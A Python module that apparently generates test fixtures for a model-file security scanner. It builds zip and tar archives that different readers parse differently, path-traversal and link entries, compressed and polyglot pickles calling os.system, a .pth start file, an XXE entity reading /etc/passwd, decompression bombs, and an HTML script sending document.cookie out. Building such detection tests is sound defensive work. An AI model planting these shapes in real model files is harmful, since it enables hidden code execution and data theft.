"""Attack shapes: archives that two readers see differently, compressed payloads, polyglots and wrong names."""

from __future__ import annotations

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import zipfile
import zlib

from judge_kit import (
    Folder,
    as_json,
    blob,
    crc,
    evil,
    gguf,
    name,
    npy,
    opcodes,
    reduce,
    safetensors,
    tarred,
    text,
    torch_zip,
    weights,
    whole,
    zipped,
)

GOOD = whole(b"}" + text("epoch") + b"K\x03s", 2)
BAD = evil(2)
OBJECT = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
DATA = "archive/data.pkl"


def member(path: bytes, data: bytes, flags: int = 0, method: int = 0, checksum: int | None = None) -> bytes:
    """A local header and its data, stored."""
    check = crc(data) if checksum is None else checksum
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, flags, method, 0, 33, check, len(data), len(data), len(path), 0)
    return head + path + data


def entry(path: bytes, data: bytes, offset: int, flags: int = 0, method: int = 0, attributes: int = 0) -> bytes:
    """A central directory entry."""
    sizes = (crc(data), len(data), len(data), len(path), 0, 0, 0, 0, attributes, offset)
    return struct.pack("<4s6H3I5H2I", b"PK\1\2", 788, 20, flags, method, 0, 33, *sizes) + path


def closed(body: bytes, directory: bytes, count: int, comment: bytes = b"") -> bytes:
    """Body, central directory and end record."""
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, count, count, len(directory), len(body), len(comment))
    return body + directory + end + comment


def pairs(local: bytes, central: bytes, data: bytes, **more: int) -> bytes:
    """A zip of one member whose two names may differ."""
    return closed(member(local, data), entry(central, data, 0, **more), 1)


def patched(data: bytes, signature: bytes, offset: int, value: bytes) -> bytes:
    """The archive with some bytes of its first header of that kind replaced."""
    at = data.index(signature) + offset
    return data[:at] + value + data[at + len(value) :]


def zips() -> dict[str, Folder]:
    """Zip tricks, mostly around a torch file."""
    base, honest = torch_zip(BAD), torch_zip(GOOD)
    path = DATA.encode()
    two = member(path, BAD) + member(path, GOOD)
    hidden = member(b"archive/version", b"3\n") + member(path, BAD)
    overlap = member(b"archive/other", member(path, BAD))
    inner = len(overlap) - len(member(path, BAD))
    deep = zipped({"inner.zip": zipped({"model.zip": zipped({"model.pkl": BAD})})})
    link = closed(
        member(b"archive/data.pkl", b"/etc/passwd"),
        entry(b"archive/data.pkl", b"/etc/passwd", 0, attributes=0o120777 << 16),
        1,
    )
    made = {
        "duplicate-member": zipped({DATA: GOOD, f"{DATA}#2": BAD}),
        "duplicate-member-reversed": zipped({DATA: BAD, f"{DATA}#2": GOOD}),
        "case-duplicate": zipped({DATA: GOOD, "archive/Data.pkl": BAD}),
        "two-names": pairs(path, b"archive/data.txt", BAD),
        "two-names-reversed": pairs(b"archive/note.txt", path, BAD),
        "central-points-past-first": closed(two, entry(path, GOOD, len(member(path, BAD))), 1),
        "not-in-directory": closed(hidden, entry(b"archive/version", b"3\n", 0), 1),
        "overlapping": closed(overlap, entry(b"archive/other", member(path, BAD), 0) + entry(path, BAD, inner), 2),
        "broken-crc": patched(patched(base, b"PK\1\2", 16, b"\1\2\3\4"), b"PK\3\4", 14, b"\1\2\3\4"),
        "crc-only-local": patched(base, b"PK\3\4", 14, b"\1\2\3\4"),
        "encrypted-flag": patched(patched(base, b"PK\1\2", 8, b"\1"), b"PK\3\4", 6, b"\1"),
        "encrypted-flag-central": patched(base, b"PK\1\2", 8, b"\1"),
        "unknown-method": patched(patched(base, b"PK\1\2", 10, b"\x63"), b"PK\3\4", 8, b"\x63"),
        "method-differs": patched(base, b"PK\3\4", 8, b"\x08"),
        "size-differs": patched(base, b"PK\3\4", 22, b"\1\0\0\0"),
        "prefix-junk": b"\x00" * 512 + base,
        "prefix-pickle": BAD + honest,
        "suffix-pickle": honest + BAD,
        "suffix-zip": honest + base,
        "prefix-zip": base + honest,
        "comment-holds-zip": honest[:-2] + struct.pack("<H", len(base)) + base,
        "two-end-records": base + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 0, 0, 0, 0, 0),
        "unicode-path-extra": _unicode_extra(),
        "nul-in-name": pairs(b"archive/data.txt\0.pkl", b"archive/data.txt\0.pkl", BAD),
        "backslash-name": pairs(b"archive\\data.pkl", b"archive\\data.pkl", BAD),
        "deflated": zipped({DATA: BAD}, zipfile.ZIP_DEFLATED),
        "lzma-member": zipped({DATA: BAD}, zipfile.ZIP_LZMA),
        "bzip2-member": zipped({DATA: BAD}, zipfile.ZIP_BZIP2),
        "odd-inner-extension": zipped({"archive/weights.jpeg": BAD, "archive/version": b"3\n"}),
        "second-disk": patched(base, b"PK\5\6", 4, b"\1\0\1\0"),
        "directory-named-payload": pairs(b"archive/data.pkl/", b"archive/data.pkl/", BAD),
        "symbolic-link": link,
        "truncated-directory-count": patched(zipped({"a.txt": b"a", DATA: BAD}), b"PK\5\6", 8, b"\1\0\1\0"),
    }
    folders = {shape: {"model.pt": data} for shape, data in made.items()}
    bomb = zipped({"a.bin": b"\0" * 60_000_000}, zipfile.ZIP_DEFLATED)
    climbing = {"../../assay-test.py": b"print('assay-test')\n", DATA: GOOD}
    return {
        **folders,
        "nested-three-deep": {"model.zip": deep},
        "bomb": {"model.npz": bomb},
        "bomb-before-payload": {"model.pt": zipped({"archive/a": b"\0" * 30_000_000, DATA: BAD}, zipfile.ZIP_DEFLATED)},
        "climbing-name": {"model.zip": zipped(climbing)},
        "absolute-name": {"model.zip": zipped({"/tmp/assay-test.sh": b"echo assay-test\n"})},
        "keras-climbing": {"model.keras": zipped({"config.json": b"{}", "assets/../../../assay-test": b"x"})},
        "jar-in-model": {
            "model.mar": zipped(
                {
                    "MAR-INF/MANIFEST.json": b'{"model":{"handler":"h.py"}}',
                    "h.py": b"import os\nos.system('echo assay-test')\n",
                }
            )
        },
        "wheel-with-start-file": {
            "dist/m-1-py3-none-any.whl": zipped(
                {
                    "m.pth": b"import os;os.system('echo assay-test')\n",
                    "m-1.dist-info/METADATA": b"Name: m\nVersion: 1\n",
                }
            )
        },
    }


def _unicode_extra() -> bytes:
    """A member whose Unicode Path extra field (0x7075) names another file than its header."""
    plain, real = b"archive/note.txt", DATA.encode()
    extra = struct.pack("<HHBI", 0x7075, 5 + len(real), 1, crc(plain)) + real
    head = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 33, crc(BAD), len(BAD), len(BAD), len(plain), len(extra))
    body = head + plain + extra + BAD
    sizes = (crc(BAD), len(BAD), len(BAD), len(plain), len(extra), 0, 0, 0, 0, 0)
    return closed(body, struct.pack("<4s6H3I5H2I", b"PK\1\2", 788, 20, 0, 0, 0, 33, *sizes) + plain + extra, 1)


def special_tar(kind: bytes, path: str, target: str, then: bytes | None = None) -> bytes:
    """A tar with one link or device, then perhaps a file written through it."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo(path)
        info.type, info.linkname = kind, target
        archive.addfile(info)
        if then is not None:
            info = tarfile.TarInfo(f"{path}/assay-test")
            info.size = len(then)
            archive.addfile(info, io.BytesIO(then))
    return out.getvalue()


def tars() -> dict[str, Folder]:
    """Tar tricks."""
    plain = tarred({"weights.bin": b"\0" * 32})
    pickle_inside = tarred({"model/model.pkl": BAD})
    legacy = tarred({"sys_info": whole(b"}", 2), "pickle": BAD, "tensors": whole(b"K\0", 2), "storages": b""})
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
        info = tarfile.TarInfo("weights.bin")
        info.size, info.pax_headers = 4, {"path": "../../assay-test.pth"}
        archive.addfile(info, io.BytesIO(b"code"))
    broken = bytearray(pickle_inside)
    broken[148:156] = b"0000000\0"
    made = {
        "torch-legacy-tar": ("model.pt", legacy),
        "pickle-inside": ("model.tar", pickle_inside),
        "pickle-inside-gz": ("model.tar.gz", gzip.compress(pickle_inside, mtime=0)),
        "pickle-inside-xz": ("model.txz", lzma.compress(pickle_inside)),
        "pickle-inside-bz2": ("model.tar.bz2", bz2.compress(pickle_inside)),
        "climbing": ("model.tar", tarred({"../../assay-test": b"x"})),
        "absolute": ("model.tar", tarred({"/tmp/assay-test": b"x"})),
        "pax-path": ("model.tar", out.getvalue()),
        "long-name": ("model.tar", tarred({"../" * 60 + "assay-test": b"x"}, fmt=tarfile.GNU_FORMAT)),
        "link-then-write": ("model.tar", special_tar(tarfile.SYMTYPE, "out", "/tmp", b"x")),
        "hard-link": ("model.tar", special_tar(tarfile.LNKTYPE, "weights", "/etc/passwd")),
        "device": ("model.tar", special_tar(tarfile.CHRTYPE, "weights", "")),
        "twice": ("model.tar", tarred({"model.pkl": GOOD}).rstrip(b"\0").ljust(1024, b"\0") + pickle_inside),
        "after-the-end": ("model.tar", plain + BAD),
        "second-after-the-end": ("model.tar", plain + pickle_inside),
        "broken-checksum": ("model.tar", bytes(broken)),
        "nemo": (
            "model.nemo",
            gzip.compress(
                tarred(
                    {"model_config.yaml": b"_target_: os.system\ncommand: echo assay-test\n", "model_weights.ckpt": BAD}
                ),
                mtime=0,
            ),
        ),
        "zip-in-tar": ("model.tar", tarred({"a/model.zip": zipped({"model.pkl": BAD})})),
        "tar-named-by-pickle": ("model.pkl", tarred({"cos\nsystem\n(S'echo assay-test'\ntR.": b"x"})),
    }
    return {shape: {path: data} for shape, (path, data) in made.items()}


def compressed() -> dict[str, Folder]:
    """Compressed pickles, as joblib, pandas and people write them."""
    two = gzip.compress(GOOD, mtime=0) + gzip.compress(BAD, mtime=0)
    stored = (
        struct.pack("<IBBB", 0x184D2204, 0x60, 0x40, 0x82) + struct.pack("<I", 1 << 31 | len(BAD)) + BAD + b"\0" * 4
    )
    skipped = struct.pack("<II", 0x184D2A50, 8) + b"assay123"
    frame = b"\x28\xb5\x2f\xfd\x20" + bytes([len(BAD)]) + struct.pack("<I", 1 | len(BAD) << 3)[:3] + BAD
    wrapper = reduce(
        name("joblib.numpy_pickle", "NumpyArrayWrapper"),
        name("numpy", "ndarray"),
        b"(K\x01t",
        text("C"),
        reduce(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88"),
        b"\x89",
    )
    old = b"ZF" + hex(len(BAD)).encode().ljust(19) + zlib.compress(BAD)
    made = {
        "gz": ("model.pkl.gz", gzip.compress(BAD, mtime=0)),
        "gz-unnamed": ("model.pkl", gzip.compress(BAD, mtime=0)),
        "gz-second-member": ("model.joblib", two),
        "gz-trailing-pickle": ("model.pkl.gz", gzip.compress(GOOD, mtime=0) + BAD),
        "gz-broken-crc": ("model.pkl.gz", gzip.compress(BAD, mtime=0)[:-8] + b"\0" * 8),
        "gz-torn": ("model.pkl.gz", gzip.compress(BAD + bytes(range(256)) * 40, mtime=0)[:200]),
        "gz-twice": ("model.joblib", gzip.compress(gzip.compress(BAD, mtime=0), mtime=0)),
        "gz-of-zip": ("model.pt.gz", gzip.compress(torch_zip(BAD), mtime=0)),
        "bz2": ("model.pkl.bz2", bz2.compress(BAD)),
        "bz2-second-stream": ("model.joblib", bz2.compress(GOOD) + bz2.compress(BAD)),
        "xz": ("model.pkl.xz", lzma.compress(BAD)),
        "xz-second-stream": ("model.joblib", lzma.compress(GOOD) + b"\0" * 4 + lzma.compress(BAD)),
        "lzma-alone": ("model.joblib", lzma.compress(BAD, format=lzma.FORMAT_ALONE)),
        "zlib": ("model.joblib", zlib.compress(BAD)),
        "zlib-level-1": ("model.pkl", zlib.compress(BAD, 1)),
        "zlib-trailing": ("model.joblib", zlib.compress(GOOD) + BAD),
        "lz4-frame": ("model.joblib", stored),
        "lz4-legacy": ("model.lz4", struct.pack("<II", 0x184C2102, len(BAD) + 2) + bytes([0xF0, len(BAD) - 15]) + BAD),
        "zstd": ("model.pkl.zst", frame),
        "zstd-skippable-first": ("model.pkl.zst", skipped + frame),
        "zstd-second-frame": ("model.pkl.zst", frame.replace(BAD, b"N." + b"\0" * (len(BAD) - 2)) + frame),
        "gz-bomb": ("model.pkl.gz", gzip.compress(b"\x80\x04" + b"N0" * 30_000_000, 9, mtime=0)),
        "joblib-object-array": ("model.joblib", whole(wrapper)[:-1] + BAD + b"."),
        "joblib-object-array-zlib": ("model.joblib", zlib.compress(whole(wrapper)[:-1] + BAD + b".")),
        "joblib-zfile": ("model.joblib", old),
        "pandas-zip": ("frame.pkl.zip", zipped({"frame.pkl": BAD})),
    }
    return {shape: {path: data} for shape, (path, data) in made.items()}


def numpys() -> dict[str, Folder]:
    """numpy containers with objects, code in the header, or another file inside."""
    array = npy(OBJECT, BAD)
    record = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    floats = npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\0" * 8)
    header = "__import__('os').system('echo assay-test') or {'descr': '<f8', 'fortran_order': False, 'shape': (1,), }"
    state = b"(K\x01(K\x01t" + reduce(name("numpy", "dtype"), text("O8"), b"\x89", b"\x88")
    state += (
        b"(K\x03"
        + text("|")
        + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb\x89]("
        + reduce(name("os", "system"), text("echo assay-test"))
        + b"et"
    )
    rebuilt = reduce(name("numpy.core.multiarray", "_reconstruct"), name("numpy", "ndarray"), b"(K\x00t", blob(b"b"))
    made = {
        "object-array": ("x.npy", array),
        "object-array-version-2": ("x.npy", npy(OBJECT, BAD, (2, 0))),
        "object-field": ("x.npy", npy(record, BAD)),
        "object-in-npz": ("x.npz", zipped({"x.npy": floats, "y.npy": array})),
        "object-deflated": ("x.npz", zipped({"y.npy": array}, zipfile.ZIP_DEFLATED)),
        "pickle-named-npy": ("x.npy", BAD),
        "pickle-in-npz": ("x.npz", zipped({"x.npy": floats, "arr_0": BAD})),
        "code-in-header": ("x.npy", npy(header, b"\0" * 8)),
        "second-array": ("x.npy", floats + array),
        "pickle-after-array": ("x.npy", floats + BAD),
        "object-torn": ("x.npy", array[:-1]),
        "array-state-calls": ("model.pkl", whole(rebuilt + state + b"b")),
        "claims-huge": ("x.npy", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (99999999999,), }", b"\0" * 8)),
    }
    return {shape: {path: data} for shape, (path, data) in made.items()}


def polyglots() -> dict[str, Folder]:
    """Files that are two things, or not what they are called."""
    png = b"\x89PNG\r\n\x1a\n" + struct.pack(">I4s", 13, b"IHDR") + struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    png += struct.pack(">I", crc(png[12:])) + struct.pack(">I4sI", 0, b"IEND", 0xAE426082)
    made = {
        f"named-{ending or 'nothing'}": (f"model.{ending}".rstrip("."), BAD)
        for ending in (
            "safetensors",
            "onnx",
            "gguf",
            "txt",
            "json",
            "csv",
            "jpg",
            "h5",
            "",
            "bin",
            "parquet",
            "md",
            "dat",
            "ckpt.index",
        )
    }
    plain = b"cos\nsystem\n(S'echo assay-test'\ntR."
    made |= {
        "text-pickle-named-txt": ("notes.txt", plain),
        "torch-named-safetensors": ("model.safetensors", torch_zip(BAD)),
        "torch-named-onnx": ("model.onnx", torch_zip(BAD)),
        "png-then-zip": ("logo.png", png + torch_zip(BAD)),
        "png-then-pickle": ("logo.png", png + BAD),
        "pdf-then-zip": ("card.pdf", b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\n%%EOF\n" + torch_zip(BAD)),
        "gguf-then-zip": ("model.gguf", gguf({"general.architecture": "llama"}) + torch_zip(BAD)),
        "safetensors-then-pickle": ("model.safetensors", weights() + BAD),
        "safetensors-then-zip": ("model.safetensors", weights() + torch_zip(BAD)),
        "safetensors-hole": (
            "model.safetensors",
            safetensors(
                {"a": {"dtype": "F32", "shape": [1], "data_offsets": [len(BAD), len(BAD) + 4]}}, BAD + b"\0" * 4
            ),
        ),
        "shell-script-named-bin": ("pytorch_model.bin", b"#!/bin/sh\necho assay-test\n"),
        "elf-named-weights": ("weights.bin", b"\x7fELF\x02\x01\x01" + b"\0" * 57),
        "llamafile": ("model.llamafile", b"MZqFpD='\n\necho assay-test\nexit\n" + b"\0" * 64 + gguf({"a": "b"})),
        "pyc": ("__pycache__/model.cpython-311.pyc", b"\xa7\r\r\n" + b"\0" * 12 + b"\xe3" + b"\0" * 30),
        "start-file": ("assay_test.pth", b"import os; os.system('echo assay-test')\n"),
        "html-with-script": (
            "README.html",
            b"<html><script>fetch('http://127.0.0.1:9/'+document.cookie)</script></html>",
        ),
        "windows-shortcut": ("weights.pt.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 80),
        "r-promise": (
            "model.rds",
            gzip.compress(b"X\n\0\0\0\3\0\4\3\1\0\3\5\0\0\0\0\5UTF-8\0\0\0\x05\0\0\0\xfe", mtime=0),
        ),
        "pmml-entity": (
            "model.pmml",
            b"<?xml version='1.0'?>\n<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>\n<PMML>&x;</PMML>\n",
        ),
        "xgboost-buffer-pickle": (
            "model.pkl",
            whole(
                opcodes(1)
                + b"0"
                + reduce(
                    name("xgboost.core", "Booster"), b"}", b")", reduce(name("os", "system"), text("echo assay-test"))
                )
            ),
        ),
        "flax-msgpack-pickle": ("flax_model.msgpack", BAD),
        "index-climbs": (
            "model.safetensors.index.json",
            as_json({"metadata": {"total_size": 4}, "weight_map": {"a": "../../../etc/passwd"}}),
        ),
        "index-names-pickle": ("pytorch_model.bin.index.json", as_json({"weight_map": {"a": "shard.bin"}})),
    }
    folders = {shape: {path: data} for shape, (path, data) in made.items()}
    folders["index-names-pickle"]["shard.bin"] = BAD
    return folders


def shapes() -> dict[str, Folder]:
    """All of them, by class."""
    groups = {"zip": zips(), "tar": tars(), "compressed": compressed(), "numpy": numpys(), "polyglot": polyglots()}
    return {f"{kind}--{shape}": files for kind, found in groups.items() for shape, files in found.items()}
